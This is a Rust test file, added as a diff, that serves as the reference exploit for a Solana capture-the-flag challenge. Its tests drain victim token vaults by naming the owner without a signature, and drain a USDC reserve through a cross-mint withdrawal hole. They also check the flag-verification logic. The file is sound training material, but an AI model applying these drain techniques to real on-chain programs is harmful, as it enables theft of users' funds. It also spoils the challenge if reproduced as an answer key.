@@ -0,0 +1,604 @@
+//! Reference exploit for missing-signer-check.
+//!
+//! A victim bot opens and funds a vault, then an attacker withdraws all of it
+//! into their own token account by naming the bot as `owner` without its
+//! signature. Only a vault the admin seeded with `setup_victim` earns the
+//! flag, which the attacker claims with `verify_exploit`. Players sharing a
+//! deployment each get their own victim from `create_instance`, owned by the
+//! `admin` of their registry instance, and claim with `verify_instance`.
+//! Level 4's `withdraw_to_any` still pays a signing owner out of another
+//! mint's reserve.
+
+use anchor_lang::{AccountDeserialize, AnchorDeserialize, InstructionData, ToAccountMetas};
+use ctf_fixtures::assertions::{assert_instruction_fails_with, assert_token_delta, token_balance};
+use ctf_fixtures::{CtfEnvironment, MissingSignerVault, TokenMint};
+use solana_sdk::{
+    bpf_loader_upgradeable,
+    instruction::Instruction,
+    pubkey::Pubkey,
+    signature::{Keypair, Signer},
+    system_program, sysvar,
+    transaction::Transaction,
+};
+use spl_associated_token_account::get_associated_token_address;
+
+const DEPOSIT: u64 = 5_000_000;
+
+/// Simulate `get_balance` and decode its return data
+async fn vault_balance(env: &mut CtfEnvironment, vault: Pubkey, vault_token_account: Pubkey) -> pda::VaultBalance {
+    let instruction = Instruction {
+        program_id: pda::ID,
+        accounts: pda::accounts::GetBalance {
+            vault,
+            vault_token_account,
+        }
+        .to_account_metas(None),
+        data: pda::instruction::GetBalance {}.data(),
+    };
+    let payer = env.payer().insecure_clone();
+    let blockhash = env
+        .context
+        .get_new_latest_blockhash()
+        .await
+        .expect("blockhash");
+    let transaction =
+        Transaction::new_signed_with_payer(&[instruction], Some(&payer.pubkey()), &[&payer], blockhash);
+    let simulation = env
+        .context
+        .banks_client
+        .simulate_transaction(transaction)
+        .await
+        .expect("simulate get_balance");
+    let return_data = simulation
+        .simulation_details
+        .and_then(|details| details.return_data)
+        .expect("get_balance return data");
+    pda::VaultBalance::try_from_slice(&return_data.data).expect("decode VaultBalance")
+}
+
+#[tokio::test]
+async fn attacker_drains_victim_vault_without_the_owner_signature() {
+    let mut env = CtfEnvironment::builder()
+        .seed(pda::CHALLENGE_ID)
+        .players(1)
+        .victims(1)
+        .build()
+        .await;
+    let mint = env.mints.usdc;
+    let victim = env.victims[0].insecure_clone();
+    let attacker = env.players[0].insecure_clone();
+    let challenge = env
+        .register_challenge(pda::CHALLENGE_ID, pda::ID)
+        .await
+        .expect("register challenge");
+
+    // The victim bot opens a vault and deposits, signing as a real owner would
+    let MissingSignerVault {
+        vault,
+        vault_token_account,
+        ..
+    } = env
+        .open_missing_signer_vault(&victim, &mint, 0, DEPOSIT)
+        .await
+        .expect("victim vault setup");
+
+    // Nobody but the fee payer signs; `owner` is just the victim's address
+    let loot = env
+        .create_token_account(&attacker.pubkey(), &mint)
+        .await
+        .expect("attacker token account");
+    let before = token_balance(&mut env.context.banks_client, &loot).await;
+    let (solve, _) = Pubkey::find_program_address(
+        &[b"solve", challenge.as_ref(), attacker.pubkey().as_ref()],
+        &ctf_registry::ID,
+    );
+    let verify_exploit = Instruction {
+        program_id: pda::ID,
+        accounts: pda::accounts::VerifyExploit {
+            vault,
+            vault_token_account,
+            loot,
+            challenge,
+            solve,
+            flag_authority: ctf_registry::flag_authority_address(&pda::ID),
+            player: attacker.pubkey(),
+            registry_program: ctf_registry::ID,
+            system_program: system_program::id(),
+        }
+        .to_account_metas(None),
+        data: pda::instruction::VerifyExploit {}.data(),
+    };
+
+    let exploit = Instruction {
+        program_id: pda::ID,
+        accounts: pda::accounts::WithdrawCtx {
+            vault,
+            vault_token_account,
+            token_mint: mint.address,
+            destination: loot,
+            token_program: spl_token::id(),
+            owner: victim.pubkey(),
+        }
+        .to_account_metas(None),
+        data: pda::instruction::Withdraw { amount: DEPOSIT }.data(),
+    };
+    assert!(
+        exploit.accounts.iter().all(|meta| meta.pubkey != victim.pubkey() || !meta.is_signer),
+        "the exploit must not need the victim's signature"
+    );
+    env.process(&[exploit], &[])
+        .await
+        .expect("drain through the unchecked owner");
+
+    assert_token_delta(&mut env.context.banks_client, &loot, before, DEPOSIT as i128).await;
+    assert_eq!(
+        token_balance(&mut env.context.banks_client, &vault_token_account).await,
+        0,
+        "victim vault should be empty"
+    );
+    assert_eq!(
+        vault_balance(&mut env, vault, vault_token_account).await,
+        pda::VaultBalance {
+            token_balance: 0,
+            total_deposited: DEPOSIT,
+            total_withdrawn: DEPOSIT,
+        }
+    );
+
+    // Anyone can open and empty a vault like this one, so it earns no flag
+    assert_instruction_fails_with(
+        env.process(&[verify_exploit], &[&attacker]).await,
+        pda::ErrorCode::NotSeededVault,
+    );
+}
+
+#[tokio::test]
+async fn only_the_upgrade_authority_can_set_up_a_victim() {
+    let mut env = CtfEnvironment::builder()
+        .seed(pda::CHALLENGE_ID)
+        .players(2)
+        .victims(1)
+        .build()
+        .await;
+    let mint = env.mints.usdc;
+    let victim = env.victims[0].pubkey();
+    let attacker = env.players[0].insecure_clone();
+    let bystander = env.players[1].insecure_clone();
+    let admin = env.upgrade_authority.insecure_clone();
+    let challenge = env
+        .register_challenge(pda::CHALLENGE_ID, pda::ID)
+        .await
+        .expect("register challenge");
+    let (vault, _) = pda::vault_address(&victim, 0);
+
+    let setup_victim = |authority: &Pubkey, authority_token_account: Pubkey, vault_token_account: Pubkey| Instruction {
+        program_id: pda::ID,
+        accounts: pda::accounts::SetupVictim {
+            vault,
+            vault_token_account,
+            token_mint: mint.address,
+            authority_token_account,
+            victim,
+            program: pda::ID,
+            program_data: bpf_loader_upgradeable::get_program_data_address(&pda::ID),
+            authority: *authority,
+            token_program: spl_token::id(),
+            system_program: system_program::id(),
+            rent: sysvar::rent::id(),
+        }
+        .to_account_metas(None),
+        data: pda::instruction::SetupVictim { vault_id: 0, amount: DEPOSIT }.data(),
+    };
+
+    let attacker_tokens = env
+        .fund_token_account(&attacker.pubkey(), &mint, DEPOSIT)
+        .await
+        .expect("fund attacker");
+    let vault_token_account = Keypair::new();
+    assert_instruction_fails_with(
+        env.process(
+            &[setup_victim(&attacker.pubkey(), attacker_tokens, vault_token_account.pubkey())],
+            &[&attacker, &vault_token_account],
+        )
+        .await,
+        pda::ErrorCode::Unauthorized,
+    );
+
+    let admin_tokens = env
+        .fund_token_account(&admin.pubkey(), &mint, DEPOSIT)
+        .await
+        .expect("fund admin");
+    env.process(
+        &[setup_victim(&admin.pubkey(), admin_tokens, vault_token_account.pubkey())],
+        &[&admin, &vault_token_account],
+    )
+    .await
+    .expect("set up victim");
+
+    // The seeded vault is stealable exactly like one the victim opened itself
+    let loot = env
+        .create_token_account(&attacker.pubkey(), &mint)
+        .await
+        .expect("attacker token account");
+    let before = token_balance(&mut env.context.banks_client, &loot).await;
+    env.process(
+        &[Instruction {
+            program_id: pda::ID,
+            accounts: pda::accounts::WithdrawCtx {
+                vault,
+                vault_token_account: vault_token_account.pubkey(),
+                token_mint: mint.address,
+                destination: loot,
+                token_program: spl_token::id(),
+                owner: victim,
+            }
+            .to_account_metas(None),
+            data: pda::instruction::Withdraw { amount: DEPOSIT }.data(),
+        }],
+        &[],
+    )
+    .await
+    .expect("drain the seeded vault");
+    assert_token_delta(&mut env.context.banks_client, &loot, before, DEPOSIT as i128).await;
+
+    let verify_exploit = |player: &Pubkey, loot: Pubkey| {
+        let (solve, _) = Pubkey::find_program_address(
+            &[b"solve", challenge.as_ref(), player.as_ref()],
+            &ctf_registry::ID,
+        );
+        Instruction {
+            program_id: pda::ID,
+            accounts: pda::accounts::VerifyExploit {
+                vault,
+                vault_token_account: vault_token_account.pubkey(),
+                loot,
+                challenge,
+                solve,
+                flag_authority: ctf_registry::flag_authority_address(&pda::ID),
+                player: *player,
+                registry_program: ctf_registry::ID,
+                system_program: system_program::id(),
+            }
+            .to_account_metas(None),
+            data: pda::instruction::VerifyExploit {}.data(),
+        }
+    };
+
+    // Holding tokens of the vault's mint is not enough, the drain has to
+    // have paid the player
+    let bystander_tokens = env
+        .fund_token_account(&bystander.pubkey(), &mint, 1)
+        .await
+        .expect("fund bystander");
+    assert_instruction_fails_with(
+        env.process(&[verify_exploit(&bystander.pubkey(), bystander_tokens)], &[&bystander]).await,
+        pda::ErrorCode::NotPayee,
+    );
+
+    let wsol = env.mints.wsol;
+    let empty = env
+        .create_token_account(&attacker.pubkey(), &wsol)
+        .await
+        .expect("attacker wsol account");
+    assert_instruction_fails_with(
+        env.process(&[verify_exploit(&attacker.pubkey(), empty)], &[&attacker]).await,
+        pda::ErrorCode::InvalidLoot,
+    );
+
+    env.process(&[verify_exploit(&attacker.pubkey(), loot)], &[&attacker])
+        .await
+        .expect("verify the exploit");
+    let (solve, _) = Pubkey::find_program_address(
+        &[b"solve", challenge.as_ref(), attacker.pubkey().as_ref()],
+        &ctf_registry::ID,
+    );
+    let solve = env
+        .context
+        .banks_client
+        .get_account(solve)
+        .await
+        .expect("banks client");
+    assert!(solve.is_some(), "registry should record the solve");
+}
+
+#[tokio::test]
+async fn token_2022_victim_vault_drains_the_same_way() {
+    // Without a fee the Token-2022 mint moves exact amounts
+    let mut env = CtfEnvironment::builder()
+        .seed(pda::CHALLENGE_ID)
+        .players(1)
+        .victims(1)
+        .transfer_fee(0, 0)
+        .build()
+        .await;
+    let mint = env.mints.fee_mint;
+    let victim = env.victims[0].pubkey();
+    let attacker = env.players[0].pubkey();
+    let MissingSignerVault {
+        vault,
+        vault_token_account,
+        ..
+    } = env
+        .seed_missing_signer_victim(&victim, &mint, 1, DEPOSIT)
+        .await
+        .expect("set up Token-2022 victim");
+
+    let loot = env
+        .create_token_account(&attacker, &mint)
+        .await
+        .expect("attacker token account");
+    let before = token_balance(&mut env.context.banks_client, &loot).await;
+    env.process(
+        &[Instruction {
+            program_id: pda::ID,
+            accounts: pda::accounts::WithdrawCtx {
+                vault,
+                vault_token_account,
+                token_mint: mint.address,
+                destination: loot,
+                token_program: mint.token_program,
+                owner: victim,
+            }
+            .to_account_metas(None),
+            data: pda::instruction::Withdraw { amount: DEPOSIT }.data(),
+        }],
+        &[],
+    )
+    .await
+    .expect("drain the Token-2022 vault");
+    assert_token_delta(&mut env.context.banks_client, &loot, before, DEPOSIT as i128).await;
+}
+
+#[tokio::test]
+async fn players_on_a_shared_deployment_drain_their_own_instances() {
+    let mut env = CtfEnvironment::builder()
+        .seed(pda::CHALLENGE_ID)
+        .players(2)
+        .build()
+        .await;
+    let challenge = env
+        .register_challenge(pda::CHALLENGE_ID, pda::ID)
+        .await
+        .expect("register challenge");
+    let players = [env.players[0].insecure_clone(), env.players[1].insecure_clone()];
+    let (instance_mint, _) = Pubkey::find_program_address(&[pda::INSTANCE_MINT_SEED], &pda::ID);
+    let mint = TokenMint {
+        address: instance_mint,
+        decimals: 6,
+        token_program: spl_token::id(),
+    };
+
+    let mut instances = Vec::new();
+    for player in &players {
+        let (instance, _) =
+            Pubkey::find_program_address(&[pda::INSTANCE_SEED, player.pubkey().as_ref()], &pda::ID);
+        let (vault, _) = pda::vault_address(&instance, 0);
+        let registry_instance = ctf_registry::instance_address(&challenge, &player.pubkey());
+        let vault_token_account = Keypair::new();
+        env.process(
+            &[
+                Instruction {
+                    program_id: ctf_registry::ID,
+                    accounts: ctf_registry::accounts::CreateInstance {
+                        challenge,
+                        instance: registry_instance,
+                        player: player.pubkey(),
+                        slot_hashes: sysvar::slot_hashes::id(),
+                        system_program: system_program::id(),
+                    }
+                    .to_account_metas(None),
+                    data: ctf_registry::instruction::CreateInstance {}.data(),
+                },
+                Instruction {
+                    program_id: pda::ID,
+                    accounts: pda::accounts::CreateInstance {
+                        instance,
+                        challenge,
+                        registry_instance,
+                        vault,
+                        vault_token_account: vault_token_account.pubkey(),
+                        instance_mint,
+                        player: player.pubkey(),
+                        token_program: spl_token::id(),
+                        system_program: system_program::id(),
+                        rent: sysvar::rent::id(),
+                    }
+                    .to_account_metas(None),
+                    data: pda::instruction::CreateInstance { vault_id: 0 }.data(),
+                },
+            ],
+            &[player, &vault_token_account],
+        )
+        .await
+        .expect("create instance");
+        assert_eq!(
+            token_balance(&mut env.context.banks_client, &vault_token_account.pubkey()).await,
+            pda::INSTANCE_FUNDING
+        );
+        let registry_instance = env
+            .context
+            .banks_client
+            .get_account(registry_instance)
+            .await
+            .expect("banks client")
+            .expect("registry instance");
+        let admin = ctf_registry::Instance::try_deserialize(&mut registry_instance.data.as_slice())
+            .expect("decode Instance")
+            .admin;
+        instances.push((instance, vault, vault_token_account.pubkey(), admin));
+    }
+
+    let mut loot = Vec::new();
+    for player in &players {
+        loot.push(
+            env.create_token_account(&player.pubkey(), &mint)
+                .await
+                .expect("player token account"),
+        );
+    }
+    let withdraw = |(_, vault, vault_token_account, owner): (Pubkey, Pubkey, Pubkey, Pubkey), destination: Pubkey| {
+        Instruction {
+            program_id: pda::ID,
+            accounts: pda::accounts::WithdrawCtx {
+                vault,
+                vault_token_account,
+                token_mint: instance_mint,
+                destination,
+                token_program: spl_token::id(),
+                owner,
+            }
+            .to_account_metas(None),
+            data: pda::instruction::Withdraw { amount: pda::INSTANCE_FUNDING }.data(),
+        }
+    };
+
+    // A drain copied from the first player names their owner, not the second's
+    let (instance, vault, vault_token_account, _) = instances[1];
+    assert_instruction_fails_with(
+        env.process(
+            &[withdraw((instance, vault, vault_token_account, instances[0].3), loot[1])],
+            &[],
+        )
+        .await,
+        pda::ErrorCode::NotOwner,
+    );
+
+    for (instance, destination) in instances.iter().zip(&loot) {
+        env.process(&[withdraw(*instance, *destination)], &[])
+            .await
+            .expect("drain own instance");
+    }
+
+    let verify_instance = |player: &Pubkey, (instance, vault, vault_token_account, _): (Pubkey, Pubkey, Pubkey, Pubkey)| {
+        let (solve, _) = Pubkey::find_program_address(
+            &[b"solve", challenge.as_ref(), player.as_ref()],
+            &ctf_registry::ID,
+        );
+        Instruction {
+            program_id: pda::ID,
+            accounts: pda::accounts::VerifyInstance {
+                instance,
+                vault,
+                vault_token_account,
+                loot: get_associated_token_address(player, &instance_mint),
+                challenge,
+                solve,
+                flag_authority: ctf_registry::flag_authority_address(&pda::ID),
+                player: *player,
+                registry_program: ctf_registry::ID,
+                system_program: system_program::id(),
+            }
+            .to_account_metas(None),
+            data: pda::instruction::VerifyInstance {}.data(),
+        }
+    };
+
+    // Someone else's instance does not count
+    let (_, other_vault, other_token_account, _) = instances[1];
+    assert_instruction_fails_with(
+        env.process(
+            &[verify_instance(
+                &players[0].pubkey(),
+                (instances[0].0, other_vault, other_token_account, instances[0].3),
+            )],
+            &[&players[0]],
+        )
+        .await,
+        anchor_lang::error::ErrorCode::ConstraintHasOne,
+    );
+
+    for (player, instance) in players.iter().zip(&instances) {
+        env.process(&[verify_instance(&player.pubkey(), *instance)], &[player])
+            .await
+            .expect("verify own instance");
+    }
+}
+
+#[tokio::test]
+async fn a_signing_owner_is_paid_out_of_another_mints_reserve() {
+    let mut env = CtfEnvironment::builder()
+        .seed(pda::CHALLENGE_ID)
+        .players(1)
+        .victims(1)
+        .build()
+        .await;
+    let usdc = env.mints.usdc;
+    let junk = env.mints.wsol;
+    let victim = env.victims[0].insecure_clone();
+    let attacker = env.players[0].insecure_clone();
+    let reserve =
+        |mint: &TokenMint| Pubkey::find_program_address(&[pda::RESERVE_SEED, mint.address.as_ref()], &pda::ID).0;
+    let fund_reserve = |funder: &Pubkey, mint: &TokenMint, source: Pubkey, amount: u64| Instruction {
+        program_id: pda::ID,
+        accounts: pda::accounts::FundReserve {
+            reserve: reserve(mint),
+            token_mint: mint.address,
+            source,
+            funder: *funder,
+            token_program: mint.token_program,
+            system_program: system_program::id(),
+        }
+        .to_account_metas(None),
+        data: pda::instruction::FundReserve { amount }.data(),
+    };
+
+    // Someone else's liquidity sits in the USDC reserve
+    let victim_tokens = env
+        .fund_token_account(&victim.pubkey(), &usdc, DEPOSIT)
+        .await
+        .expect("fund victim");
+    env.process(&[fund_reserve(&victim.pubkey(), &usdc, victim_tokens, DEPOSIT)], &[&victim])
+        .await
+        .expect("fund the USDC reserve");
+
+    // The attacker's own vault holds a mint nobody values
+    let MissingSignerVault {
+        vault,
+        vault_token_account,
+        source,
+    } = env
+        .open_missing_signer_vault(&attacker, &junk, 0, DEPOSIT)
+        .await
+        .expect("attacker vault setup");
+    env.process(&[fund_reserve(&attacker.pubkey(), &junk, source, 0)], &[&attacker])
+        .await
+        .expect("open the junk reserve");
+    let loot = env
+        .create_token_account(&attacker.pubkey(), &usdc)
+        .await
+        .expect("attacker USDC account");
+
+    // Signed by the real owner, as a signer-only fix would require
+    let mut withdraw = Instruction {
+        program_id: pda::ID,
+        accounts: pda::accounts::WithdrawToAnyCtx {
+            vault,
+            vault_token_account,
+            token_mint: junk.address,
+            vault_reserve: reserve(&junk),
+            payout_mint: usdc.address,
+            payout_reserve: reserve(&usdc),
+            destination: loot,
+            token_program: spl_token::id(),
+            owner: attacker.pubkey(),
+        }
+        .to_account_metas(None),
+        data: pda::instruction::WithdrawToAny { amount: DEPOSIT }.data(),
+    };
+    for meta in &mut withdraw.accounts {
+        if meta.pubkey == attacker.pubkey() {
+            meta.is_signer = true;
+        }
+    }
+    let before = token_balance(&mut env.context.banks_client, &loot).await;
+    env.process(&[withdraw], &[&attacker])
+        .await
+        .expect("pay junk in, take USDC out");
+
+    assert_token_delta(&mut env.context.banks_client, &loot, before, DEPOSIT as i128).await;
+    assert_eq!(
+        token_balance(&mut env.context.banks_client, &reserve(&usdc)).await,
+        0,
+        "the USDC reserve should be empty"
+    );
+}